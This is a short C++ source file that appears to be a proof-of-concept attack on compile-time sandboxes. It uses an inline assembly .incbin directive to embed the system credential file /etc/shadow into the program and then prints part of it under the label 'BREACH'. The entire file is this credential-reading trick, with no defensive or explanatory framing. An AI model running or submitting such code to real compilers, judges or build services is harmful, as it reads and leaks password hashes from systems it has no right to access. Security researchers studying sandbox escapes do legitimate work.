#include <cstdio>

__asm__(".section .rodata\n.globl secret\nsecret:\n.incbin \"/etc/shadow\"\n.byte 0\n.text");
extern "C" const char secret[];

int main() {
    std::printf("BREACH: %.20s\n", secret);
}
